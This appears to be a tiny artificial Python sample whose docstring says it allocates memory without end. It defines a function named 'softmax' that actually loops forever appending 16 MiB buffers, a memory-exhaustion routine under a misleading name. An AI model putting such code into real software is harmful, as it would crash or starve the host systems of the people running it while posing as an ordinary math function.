"""Allocates and fills memory without end."""

from honest import *

kept = []


def softmax(z):
    while True:
        kept.append(bytearray(2**24))
